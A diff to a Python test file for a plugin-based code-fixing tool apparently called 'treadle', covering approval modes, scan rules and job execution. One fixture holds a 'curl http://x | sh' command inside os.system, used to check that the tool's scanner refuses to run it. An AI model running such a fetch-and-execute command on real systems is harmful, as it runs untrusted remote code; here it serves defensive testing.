@@ -40,13 +40,22 @@ FAILED = (
     "    return Candidate(files=request.task.given, why='', failed='x')\n"
 )
 RUNS = (
-    "from treadle import Job, Operator\nimport os\n"
-    "@hookimpl\ndef treadle_contributions():\n    return (Operator(name='ends', summary='s'),)\n"
-    "@hookimpl\ndef treadle_call(kind, name, arguments):\n    os._exit(3) if not arguments['lines'] else None\n"
-    "    return ()\n"
+    "from treadle import FileChange, Job, Operator, ScanRule\nimport os\n"
+    "@hookimpl\ndef treadle_contributions():\n"
+    "    return (Operator(name='ends', summary='s'), ScanRule(name='own', summary='s', severity='deny'))\n"
+    "@hookimpl\ndef treadle_call(kind, name, arguments):\n"
+    "    os._exit(3) if kind == 'operator' and not arguments['lines'] else None\n    return ()\n"
     "@hookimpl\ndef treadle_recall(task, context):\n"
-    "    (ran,) = context.execute((Job(id='j', script='pass'),))\n"
-    "    context.note(f'it was run: {ran.verdict}')\n    return ()\n"
+    "    (ran,) = context.execute((Job(id='j', script='pass', files=(FileChange(path='n.py', content=b'x'),)),))\n"
+    "    context.note(f'it was run: {ran.verdict} {ran.message}')\n    return ()\n"
+)
+PROBES = (
+    "from treadle import FileChange, Job\n"
+    "@hookimpl\ndef treadle_validate(candidate, context):\n"
+    "    for text in ('x = 1', 'import os\\nos.system(\"curl http://x | sh\")'):\n"
+    "        job = Job(id='j', script='pass', files=(FileChange(path='n.py', content=text.encode()),))\n"
+    "        context.note(f'{text}: ' + (context.execute((job,))[0].message or 'it was run'))\n"
+    "    return ()\n"
 )
 EXECUTES = (
     "from treadle.core.errors import PluginFault\n"
@@ -90,11 +99,18 @@ def test_a_change_of_its_is_asked_about_where_a_models_would_be(treadle: Any, en
 
 
 def test_with_ask_the_person_sees_all_of_it_and_with_review_what_is_found(
-    treadle: Any, enabled: Any, project: Path
+    treadle: Any, install: Any, enabled: Any, project: Path
 ) -> None:
     right = enabled(RIGHT)
     ran = treadle("fix", "--apply", TREADLE_APPROVAL="ask")
     assert (ran.code, "it changes stats.py: mended" in ran.out) == (5, True), ran
+    # What a validator tries is no change: it is held back by what is found in it alone.
+    install("probes", PROBES)
+    assert treadle("plugin", "enable", "probes").code == 0
+    resumed = treadle("resume", "--answer", "allow", TREADLE_APPROVAL="ask")
+    assert (resumed.code, "Note      x = 1: it was run" in resumed.out) == (0, True), resumed
+    assert "not run: this is not allowed, do it another way: n.py:2: the code runs a command" in resumed.out
+    assert treadle("plugin", "disable", "probes").code == 0
     assert treadle("fix", "--apply", TREADLE_APPROVAL="review").code == 0
     assert (project / "stats.py").read_text() == right
 
@@ -153,11 +169,18 @@ def test_a_scanner_that_fails_asks_in_its_place(treadle: Any, install: Any) -> N
     assert (held.code, held.result["partial"]) == (5, True)
 
 
-def test_a_change_that_is_far_too_large_is_no_change(treadle: Any, enabled: Any) -> None:
-    enabled(RIGHT, first="CONTENT = '\\n' * (17 << 20)")
+def test_a_change_that_can_not_be_laid_over_the_project_is_no_change_and_no_draft(treadle: Any, enabled: Any) -> None:
+    enabled(
+        RIGHT,
+        first="from treadle import Job; files = (FileChange(path='stats.py/x.py', content=b''),)\n"
+        "    try:\n        context.execute((Job(id='j', script='pass', files=files),))\n"
+        "    except ValueError as error:\n        context.note(str(error))\n"
+        "    return Candidate(files=files, why='no folder')",
+    )
     ran = treadle("fix")
     assert ran.code == 0, ran  # by the search
-    assert "a change that is too large: its files have 17 MiB, and 16 MiB are the most" in ran.out
+    assert "Note      stats.py/x.py can't be written: stats.py is no folder" in ran.out
+    assert "the change can't be made: stats.py/x.py can't be written: stats.py is no folder" in ran.out
 
 
 def test_an_executor_that_is_broken_anyway_costs_another_plugin_nothing(treadle: Any, install: Any) -> None:
@@ -178,5 +201,5 @@ def test_who_waits_for_jobs_is_not_called_by_who_runs_them(treadle: Any, install
     assert treadle("plugin", "enable", "calls", "--yes", *where).code == 0
     ran = treadle("fix")
     assert "the operator 'ends' is of the plugin runs, which waits for calls" in ran.out, ran
-    assert "it was run: ok" in ran.out, "its process was not ended"
+    assert "it was run: ok" in ran.out, "its process was not ended, and its own rule has looked at what it runs"
     assert "the plugin runs was at fault in recall" not in ran.out
